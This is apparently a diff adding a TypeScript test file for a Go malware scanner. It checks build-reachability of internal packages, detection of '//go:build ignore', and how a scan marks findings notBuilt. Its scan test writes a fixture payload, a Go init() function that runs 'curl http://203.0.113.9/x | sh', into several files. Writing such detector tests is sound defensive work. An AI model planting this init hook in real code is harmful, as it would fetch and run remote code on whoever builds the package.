@@ -1,0 +1,61 @@
+// Which packages of a module can build into a dependent: internal packages only tests import cannot,
+// and neither can files behind `//go:build ignore` (scan-worker.ts); findings there are marked notBuilt.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { unreachableInternalPackages } from '../src/static/build-reach.js';
+import { buildIgnored } from '../src/static/scan-worker.js';
+import { scanModule } from '../src/static/scan.js';
+import { loadRules, defaultRulesDir } from '../src/static/rules/load.js';
+
+test('an internal package is unreachable when only tests import it, reachable through any built import chain', () => {
+  const m = 'example.test/m';
+  const packages = [
+    { dir: '', buildImports: ['fmt', `${m}/internal/a`] },
+    { dir: 'internal/a', buildImports: [`${m}/internal/b`] },
+    { dir: 'internal/b', buildImports: [] },
+    { dir: 'internal/testutils', buildImports: ['testing'] },
+    { dir: 'testdata/x', buildImports: [`${m}/internal/only-testdata`] },
+    { dir: 'internal/only-testdata', buildImports: [] },
+    { dir: 'cmd/tool/internal/c', buildImports: [] },
+    { dir: 'cmd/tool', buildImports: [`${m}/cmd/tool/internal/c`] },
+  ];
+  assert.deepEqual([...unreachableInternalPackages(m, packages)].sort(), ['internal/only-testdata', 'internal/testutils']);
+  assert.equal(unreachableInternalPackages(undefined, packages).size, 0, 'no module path: nothing is called unreachable');
+  const failed = [...packages, { dir: 'pkg', buildImports: null }];
+  assert.equal(unreachableInternalPackages(m, failed).size, 0, 'a package whose imports are unknown may import any of them');
+});
+
+test('//go:build ignore above the package clause marks a file that never builds', () => {
+  assert.equal(buildIgnored('//go:build ignore\n\npackage main\n'), true);
+  assert.equal(buildIgnored('// Copyright\n\n// +build ignore\n\npackage main\n'), true);
+  assert.equal(buildIgnored('//go:build linux\n\npackage p\n'), false);
+  assert.equal(buildIgnored('//go:build ignore && linux\n\npackage p\n'), false);
+  assert.equal(buildIgnored('package p\n\n//go:build ignore\n'), false, 'below the package clause it is only a comment');
+});
+
+test('a scan marks findings of test-only internal packages and ignored files notBuilt, and leaves the rest', async () => {
+  const dir = mkdtempSync(path.join(tmpdir(), 'gosnare-reach-'));
+  try {
+    const write = (rel: string, text: string) => {
+      mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+      writeFileSync(path.join(dir, rel), text);
+    };
+    const payload = (pkg: string) => `package ${pkg}\nimport "os/exec"\nfunc init() { exec.Command("sh", "-c", "curl http://203.0.113.9/x | sh").Run() }\n`;
+    write('go.mod', 'module example.test/m\n\ngo 1.22\n');
+    write('m.go', 'package m\nimport _ "example.test/m/internal/used"\n');
+    write('m_test.go', 'package m\nimport _ "example.test/m/internal/testutils"\n');
+    write('internal/used/u.go', payload('used'));
+    write('internal/testutils/t.go', payload('testutils'));
+    write('gen.go', `//go:build ignore\n\n${payload('main')}`);
+    const result = await scanModule(dir, { rules: loadRules([defaultRulesDir()]), workers: 1 });
+    const byFile = (file: string) => result.findings.filter((f) => f.file === file);
+    assert.ok(byFile('internal/used/u.go').length > 0 && byFile('internal/used/u.go').every((f) => f.notBuilt === undefined), 'a built internal package');
+    assert.ok(byFile('internal/testutils/t.go').length > 0 && byFile('internal/testutils/t.go').every((f) => f.notBuilt === true), 'an internal package only tests import');
+    assert.ok(byFile('gen.go').length > 0 && byFile('gen.go').every((f) => f.notBuilt === true), 'a //go:build ignore file');
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
